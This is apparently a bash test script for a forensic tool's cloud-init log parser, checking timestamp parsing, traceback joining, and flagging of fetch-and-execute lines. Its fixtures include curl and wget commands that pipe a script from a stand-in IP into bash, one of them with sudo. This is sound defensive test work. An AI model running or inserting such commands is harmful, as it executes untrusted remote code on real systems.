#!/usr/bin/env bash
# cloud-init traces (cloud_init): cloud-init.log in the format cloud-init's own tests use
# ("2017-08-08 20:05:07,147 - util.py[DEBUG]: ..."; times checked against Python's
# strptime as `cloud-init analyze` reads them), cloud-init-output.log timed by its stage
# banners, and the instance user data with a curl|sh line flagged.
source "$(dirname "$0")/../lib.sh"
H=$TMP/host
mkdir -p "$H/var/log" "$H/var/lib/cloud/instance"
cat > "$H/var/log/cloud-init.log" <<'LOG'
2017-08-08 20:05:07,147 - util.py[DEBUG]: Cloud-init v. 0.7.9 running 'init-local' at Tue, 08 Aug 2017 20:05:07 +0000. Up 6.26 seconds.
2017-08-08 20:05:07,160 - handlers.py[DEBUG]: start: init-local/check-cache: attempting to read from cache [check]
2017-08-08 20:05:09,002 - util.py[WARNING]: Running module scripts-user (<module 'cloudinit.config.cc_scripts_user'>) failed
Traceback (most recent call last):
  File "/usr/lib/python3/dist-packages/cloudinit/config/modules.py", line 1, in _run_modules
RuntimeError: Runparts: 1 failures in 1 attempted commands
2017-08-08 20:05:09,100 - subp.py[DEBUG]: Running command ['sh', '-c', 'curl -fsSL http://203.0.113.9/i.sh | bash'] with allowed return codes [0]
LOG
printf 'not a record before the first one\n' | cat - "$H/var/log/cloud-init.log" > "$H/var/log/cloud-init.log.1"
cat > "$H/var/log/cloud-init-output.log" <<'OUT'
early line
Cloud-init v. 23.4-7.el9 running 'modules:final' at Mon, 18 Mar 2024 09:38:45 +0900. Up 22.50 seconds.
+ curl -fsSL http://203.0.113.9/i.sh
installed
OUT
touch -d '2024-03-18 00:00:00' "$H/var/log/cloud-init-output.log"
cat > "$H/var/lib/cloud/instance/user-data.txt" <<'UD'
#cloud-config
runcmd:
  - [ sh, -c, "wget -qO- http://203.0.113.9/bootstrap | sudo bash" ]
  - echo done
UD
C=$TMP/case
expect_rc ingest_cloud_init 3 "$KS" ingest -q "$C" "$H/var/log/cloud-init.log" "$H/var/log/cloud-init.log.1" "$H/var/log/cloud-init-output.log" "$H/var/lib/cloud/instance/user-data.txt"
want=$(python3 - <<'PY'
from datetime import datetime, timezone
for s in ["2017-08-08 20:05:07,147", "2017-08-08 20:05:07,160", "2017-08-08 20:05:09,002", "2017-08-08 20:05:09,100"]:
    dt = datetime.strptime(s, "%Y-%m-%d %H:%M:%S,%f").replace(tzinfo=timezone.utc)
    print(dt.strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z")
PY
)
W="evidence_id=(SELECT id FROM evidence WHERE path LIKE '%cloud-init.log')"
expect_eq log_times_vs_strptime "$(q "$C" "SELECT time FROM cloud_init WHERE kind='log' AND $W ORDER BY id")" "$want"
expect_eq log_module_level "$(q "$C" "SELECT group_concat(module || '/' || level, ' ') FROM cloud_init WHERE kind='log' AND $W")" \
  "util.py/DEBUG handlers.py/DEBUG util.py/WARNING subp.py/DEBUG"
expect_eq traceback_joined "$(q "$C" "SELECT count(*) FROM cloud_init WHERE level='WARNING' AND $W AND message LIKE '%RuntimeError: Runparts%'")" "1"
expect_eq log_fetch_exec "$(q "$C" "SELECT module FROM cloud_init WHERE fetch_exec=1 AND $W")" "subp.py"
expect_eq stray_line_is_error "$(q "$C" "SELECT line FROM events WHERE error IS NOT NULL AND file LIKE '%cloud-init.log.1'")" "1"
expect_eq output_rows "$(q "$C" "SELECT group_concat(coalesce(time,'-') || ' ' || fetch_exec, '|') FROM cloud_init WHERE kind='output'")" \
  "2024-03-18T00:00:00.000000000Z 0|2024-03-18T00:38:45.000000000Z 0|2024-03-18T00:38:45.000000000Z 0|2024-03-18T00:38:45.000000000Z 0"
expect_eq user_data_one_record "$(q "$C" "SELECT lines || ' ' || fetch_exec FROM cloud_init WHERE kind='user_data'")" "4 1"
expect_eq user_data_whole_text "$(q "$C" "SELECT message FROM cloud_init WHERE kind='user_data'")" "$(cat "$H/var/lib/cloud/instance/user-data.txt")"
expect_eq user_data_event "$(q "$C" "SELECT action || ' ' || outcome || ' ' || time_desc FROM events WHERE action='cloud_init_user_data'")" "cloud_init_user_data fetch_exec file modified"

# A record whose traceback passes 1 MiB is cut at a line boundary, like syslog's and the web
# error logs' (the shared joiner): no stray '\n' at the end, the records after it intact.
B=$TMP/big/var/log
mkdir -p "$B"
python3 - "$B/cloud-init.log" <<'PY'
import sys
with open(sys.argv[1], "w") as f:
    f.write("2017-08-08 20:05:09,002 - util.py[WARNING]: Running module scripts-user failed\n")
    f.write("Traceback (most recent call last):\n")
    for i in range(6000):
        f.write("  File \"/usr/lib/python3/x%05d.py\", line %d, in f %s\n" % (i, i, "y" * 150))
    f.write("2017-08-08 20:05:09,100 - subp.py[DEBUG]: after the long one\n")
PY
CB=$TMP/case-big
"$KS" ingest -q "$CB" "$B/cloud-init.log" > /dev/null 2>&1
expect_eq long_record_cut_at_line_boundary "$(q "$CB" "SELECT length(raw) <= 1048576 AND length(raw) > 1048576 - 300 AND substr(raw, -1) <> char(10) AND substr(raw, -5) = 'yyyyy' FROM events WHERE line = 1")" "1"
expect_eq long_record_cut_warned "$(q "$CB" "SELECT warnings FROM evidence")" "1"
expect_eq record_after_long_one_kept "$(q "$CB" "SELECT line || ' ' || message FROM cloud_init WHERE module='subp.py'")" "6003 after the long one"
